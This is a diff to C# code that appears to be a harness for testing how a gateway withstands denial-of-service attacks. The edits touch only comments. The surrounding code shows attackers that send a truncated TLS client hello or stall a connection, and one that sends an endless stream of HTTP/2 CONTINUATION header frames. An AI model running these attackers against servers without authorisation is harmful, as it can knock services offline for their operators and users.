@@ -2,10 +2,10 @@ using System.Net.Security;
 
 namespace Counter.Attack.Attackers;
 
-/// <summary>Connections that say nothing, or half of something.</summary>
+/// <summary>Attackers that open a connection and send nothing, or an incomplete message.</summary>
 internal static class HalfOpen
 {
-    // A record of 512 bytes with the hello of TLS 1.2, of which there are eleven.
+    // The first eleven bytes of a record of 512 bytes with the client hello of TLS 1.2.
     private static readonly byte[] HalfHello = [0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xFC, 0x03, 0x03];
 
     public static Task SayNothingAsync(Target target, int number, Action<string> count, CancellationToken over) =>
@@ -35,20 +35,20 @@ internal static class HalfOpen
         await connection.ReadToEndAsync(count, over);
     }
 
-    /// <summary>One more header a second, and never the last.</summary>
+    /// <summary>Sends one more header a second and never the last one.</summary>
     public static async Task ContinueHeadersAsync(Target target, int number, Action<string> count, CancellationToken over)
     {
         await using var connection = await Http2Connection.OpenAsync(target, number, ushort.MaxValue, over);
 
-        // The gateway's settings are acknowledged before: nothing may come between headers and their continuation.
+        // The gateway's settings are acknowledged first, because no frame may come between headers and their continuation.
         while ((await connection.ReadAsync(over)).Type != Http2Connection.Settings)
         {
-            // What it sends first are its settings.
+            // Waits for the settings.
         }
 
         await connection.WriteAsync(Http2Connection.Request(target, stream: 1, "/", flags: 0), over);
 
-        // "x: y", literal and without a table.
+        // "x: y" as a literal without indexing.
         var more = Http2Connection.Frame(Http2Connection.Continuation, 0, 1, [0x00, 0x01, (byte)'x', 0x01, (byte)'y']);
         await Http1.EitherAsync(ended => connection.ReadToEndAsync(count, ended), async ended =>
         {
